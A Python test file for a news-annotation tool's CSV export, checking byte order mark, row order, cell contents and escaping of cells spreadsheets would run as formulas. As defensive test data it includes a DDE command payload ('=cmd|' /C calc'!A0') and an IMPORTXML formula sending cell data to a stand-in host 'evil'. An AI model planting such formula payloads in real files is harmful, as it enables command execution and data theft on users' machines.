"""CSV export: one row per passage, readable by spreadsheets, safe to open in them."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from tests.helpers.interchange_bundle import RU_BODY, build_sample
from workstation.interchange import write_csv
from workstation.interchange.csv_table import CSV_COLUMNS, neutralise_formula


def read_back(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.reader(handle)
        header = next(reader)
        assert tuple(header) == CSV_COLUMNS
        return [dict(zip(header, row, strict=True)) for row in reader]


@pytest.fixture
def exported(tmp_path):
    sample = build_sample()
    path = tmp_path / "passages.csv"
    assert write_csv(sample.bundle, path) == 7
    rows = read_back(path)
    return sample, path, {(row["document_id"], int(row["start"])): row for row in rows}, rows


def row_of(rows_by_key, annotation):
    return rows_by_key[(annotation.document_id, annotation.start)]


def test_file_starts_with_a_byte_order_mark_and_has_one_row_per_passage(exported):
    sample, path, _, rows = exported
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert "Сергей Лавров".encode() in raw
    assert len(rows) == 7
    # document order (the English article was published first), then position
    assert [row["document_id"] for row in rows] == [sample.en.id] * 2 + [sample.ru.id] * 5
    starts = [int(row["start"]) for row in rows if row["document_id"] == sample.ru.id]
    assert starts == sorted(starts)


def test_a_row_carries_the_passage(exported):
    sample, _, by_key, _ = exported
    row = row_of(by_key, sample.after_emoji)
    start = RU_BODY.index("зеркально")  # code points, after the emoji
    assert row == {
        "document_id": sample.ru.id,
        "document_title": "Лавров: Москва ответит 😀",
        "url": "",
        "start": str(start),
        "end": str(start + 9),
        "quote": "зеркально",
        "category": "Statement",
        "mention_only": "no",
        "note": "Mirror response:\nsame scale.",  # newline kept inside the quoted cell
        "entities": "Russia (actor)",
        "releasable": "yes",
        "author": "officer.one",
        "created": "2021-04-16T08:00:00.250000Z",
        "modified": "2021-04-16T09:30:00Z",
    }
    sanctions = row_of(by_key, sample.sanctions)
    assert sanctions["url"] == "https://example.org/news/us-sanctions"
    assert sanctions["entities"] == "United States (actor); Russia (target)"
    across = row_of(by_key, sample.across_lines)
    assert across["quote"] == sample.across_lines.exact
    assert across["entities"] == "Russia (actor); United States (target)"


def test_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(exported):
    sample, path, by_key, _ = exported
    formula = row_of(by_key, sample.formula)
    assert formula["quote"] == "'=HYPERLINK list"
    assert formula["note"] == "'=cmd|' /C calc'!A0"
    dash = row_of(by_key, sample.dash)
    assert dash["quote"] == "'-Sanctions on Alexei Gromov"
    assert dash["releasable"] == "no"
    assert dash["entities"] == "Alexei Gromov (target)"
    text = path.read_text(encoding="utf-8-sig")
    assert ",=HYPERLINK" not in text and ",-Sanctions" not in text


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("+7 495 000", "'+7 495 000"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tindented", "'\tindented"),
        ("\rreturn", "'\rreturn"),
        ("a = b", "a = b"),
        ("Сергей", "Сергей"),
        ("", ""),
    ],
)
def test_neutralise_formula(cell, expected):
    assert neutralise_formula(cell) == expected


def test_titles_and_categories_are_neutralised_too(tmp_path):
    sample = build_sample()
    sample.en.title = '=IMPORTXML(CONCAT("http://evil/?",A1))'
    next(iter(sample.bundle.categories.values())).name = "@risk"
    path = tmp_path / "out.csv"
    write_csv(sample.bundle, path)
    rows = read_back(path)
    assert {r["document_title"] for r in rows if r["document_id"] == sample.en.id} == {
        '\'=IMPORTXML(CONCAT("http://evil/?",A1))'
    }
    assert any(r["category"] == "'@risk" for r in rows)


def test_same_state_gives_the_same_bytes(tmp_path):
    sample = build_sample()
    write_csv(sample.bundle, tmp_path / "a.csv")
    sample.bundle.annotations.reverse()
    sample.bundle.documents.reverse()
    write_csv(sample.bundle, tmp_path / "b.csv")
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
